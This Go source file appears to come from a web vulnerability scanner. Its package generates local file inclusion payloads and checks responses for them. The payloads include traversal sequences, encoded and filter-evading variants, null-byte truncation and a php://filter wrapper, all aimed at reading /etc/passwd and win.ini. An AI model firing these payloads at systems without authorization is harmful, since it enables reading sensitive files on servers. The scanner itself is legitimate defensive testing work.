// Package lfi detects local file inclusion by requesting well-known
// sentinel files through traversal sequences and matching their content.
package lfi

import (
	"context"
	"fmt"
	"log/slog"
	"regexp"
	"strings"

	"github.com/waftester/webscan/pkg/defaults"
	"github.com/waftester/webscan/pkg/finding"
	"github.com/waftester/webscan/pkg/httpclient"
	"github.com/waftester/webscan/pkg/probe"
	"github.com/waftester/webscan/pkg/target"
)

// OS selects the sentinel files to try.
type OS string

const (
	Linux   OS = "linux"
	Windows OS = "windows"
	Both    OS = "both"
)

// Sentinel is a file whose content is recognizable.
type Sentinel struct {
	Name      string
	OS        OS
	Path      string // absolute path on the target host
	Signature *regexp.Regexp
	// Wrapper marks a sentinel fetched through a PHP stream wrapper; it is
	// requested as-is instead of through traversal sequences.
	Wrapper bool
}

var sentinels = []Sentinel{
	{Name: "passwd", OS: Linux, Path: "etc/passwd",
		Signature: regexp.MustCompile(`root:[x*!]?:0:0:`)},
	{Name: "php-filter-passwd", OS: Linux, Path: "php://filter/convert.base64-encode/resource=/etc/passwd", Wrapper: true,
		Signature: regexp.MustCompile(`cm9vdDp4OjA6MD`)},
	{Name: "win.ini", OS: Windows, Path: `Windows\win.ini`,
		Signature: regexp.MustCompile(`(?s)\[fonts\].*\[extensions\]|\[extensions\].*\[fonts\]|; for 16-bit app support`)},
}

// Sentinels returns the sentinel files for os.
func Sentinels(os OS) []Sentinel {
	var out []Sentinel
	for _, s := range sentinels {
		if os == Both || os == "" || s.OS == os {
			out = append(out, s)
		}
	}
	return out
}

// Config tunes payload generation.
type Config struct {
	OS OS `json:"os" yaml:"os"`

	// MaxDepth is the deepest traversal tried ("../" repeated).
	MaxDepth int `json:"max_depth" yaml:"max_depth"`

	// Encoded adds URL-encoded and filter-evading traversal variants.
	Encoded bool `json:"encoded" yaml:"encoded"`
}

// DefaultConfig tries both OS families up to eight levels deep.
func DefaultConfig() Config {
	return Config{OS: Both, MaxDepth: 8, Encoded: true}
}

// Payload is one value to inject and the sentinel it should reveal.
type Payload struct {
	Value    string
	Sentinel Sentinel
	// Encoded marks a value already in wire form (percent escapes, a %00
	// terminator) that must not be escaped again.
	Encoded bool
}

func (pl Payload) request(tg target.Target, p probe.InjectionPoint) (*httpclient.Request, bool) {
	tag := "lfi/" + pl.Sentinel.Name
	if pl.Encoded {
		return probe.BuildEncoded(tg, p, pl.Value, tag)
	}
	return probe.Build(tg, p, pl.Value, tag), true
}

// Payloads expands the sentinels into traversal payloads, shallowest first.
func Payloads(cfg Config) []Payload {
	var out []Payload
	for _, s := range Sentinels(cfg.OS) {
		if s.Wrapper {
			out = append(out, Payload{Value: s.Path, Sentinel: s})
			continue
		}
		up := "../"
		if s.OS == Windows {
			up = `..\`
		}
		if s.OS == Linux {
			out = append(out, Payload{Value: "/" + s.Path, Sentinel: s})
		} else {
			out = append(out, Payload{Value: `C:\` + s.Path, Sentinel: s})
		}
		for depth := 1; depth <= cfg.MaxDepth; depth++ {
			out = append(out, Payload{Value: strings.Repeat(up, depth) + s.Path, Sentinel: s})
		}
		if cfg.Encoded {
			deep := max(cfg.MaxDepth, 1)
			filtered := "....//"
			if s.OS == Windows {
				filtered = `....\\`
			}
			out = append(out, Payload{Value: strings.Repeat(filtered, deep) + s.Path, Sentinel: s})
			// Wire-form variants: single, fully and double encoded
			// separators, then a null byte truncating an appended suffix.
			file := wireEscape(s.Path)
			for _, variant := range []string{"..%2f", "%2e%2e%2f", "..%252f"} {
				if s.OS == Windows {
					variant = strings.NewReplacer("%2f", "%5c", "%252f", "%255c").Replace(variant)
				}
				out = append(out, Payload{Value: strings.Repeat(variant, deep) + file, Sentinel: s, Encoded: true})
			}
			out = append(out, Payload{Value: wireEscape(strings.Repeat(up, deep)) + file + "%00", Sentinel: s, Encoded: true})
		}
	}
	return out
}

// Tester checks injection points for file inclusion.
type Tester struct {
	client   httpclient.Sender
	config   Config
	payloads []Payload
	logger   *slog.Logger
}

// Option configures a Tester.
type Option func(*Tester)

// WithConfig replaces the default config.
func WithConfig(cfg Config) Option {
	return func(t *Tester) { t.config = cfg }
}

// WithLogger sets the logger.
func WithLogger(l *slog.Logger) Option {
	return func(t *Tester) {
		if l != nil {
			t.logger = l
		}
	}
}

// New creates a Tester.
func New(client httpclient.Sender, opts ...Option) *Tester {
	t := &Tester{client: client, config: DefaultConfig(), logger: slog.Default()}
	for _, opt := range opts {
		opt(t)
	}
	t.payloads = Payloads(t.config)
	return t
}

// Probe reports the first payload whose response carries a sentinel
// signature that the baseline response does not.
func (t *Tester) Probe(ctx context.Context, tg target.Target, p probe.InjectionPoint) ([]finding.Finding, error) {
	if err := p.Validate(); err != nil {
		return nil, err
	}
	base, err := t.client.Send(ctx, probe.Build(tg, p, p.Original, "lfi/baseline"))
	if err != nil {
		return nil, probe.Gap("lfi", err)
	}
	// Sentinels already on the page (e.g. a tutorial quoting /etc/passwd)
	// cannot be attributed to the payload.
	skip := map[string]bool{}
	for _, s := range Sentinels(t.config.OS) {
		if s.Signature.Match(base.Body) {
			skip[s.Name] = true
		}
	}

	for _, pl := range t.payloads {
		if skip[pl.Sentinel.Name] {
			continue
		}
		req, ok := pl.request(tg, p)
		if !ok {
			continue
		}
		resp, err := t.client.Send(ctx, req)
		if err != nil {
			return nil, probe.Gap("lfi", err)
		}
		loc := pl.Sentinel.Signature.FindIndex(resp.Body)
		if loc == nil {
			continue
		}
		f := finding.New(finding.Finding{
			Category:    finding.LFI,
			Confidence:  finding.Confirmed,
			Technique:   techniqueOf(pl),
			URL:         tg.Resolve(p.Path).String(),
			Path:        p.EndpointPath(tg),
			Parameter:   p.Parameter,
			StatusCode:  resp.StatusCode,
			Description: fmt.Sprintf("local file inclusion in %s reads %s", p.Display(), pl.Sentinel.Name),
			Evidence: finding.Evidence{
				Payload:  pl.Value,
				Request:  resp.Request.String(),
				Response: resp.Summary(defaults.EvidenceExcerpt),
				Detail:   fmt.Sprintf("sentinel=%s match=%q", pl.Sentinel.Name, resp.Body[loc[0]:loc[1]]),
			},
			Tags: []string{"os:" + string(pl.Sentinel.OS), "file:" + pl.Sentinel.Name},
		})
		return []finding.Finding{f}, nil
	}
	return nil, nil
}

// wireEscape escapes the bytes of a path that cannot appear raw in a query.
func wireEscape(v string) string {
	return strings.ReplaceAll(v, `\`, "%5c")
}

func techniqueOf(pl Payload) string {
	switch {
	case pl.Encoded:
		return "encoded-traversal"
	case pl.Sentinel.Wrapper:
		return "php-wrapper"
	case strings.HasPrefix(pl.Value, "/"), strings.HasPrefix(pl.Value, `C:\`):
		return "absolute-path"
	default:
		return "traversal"
	}
}
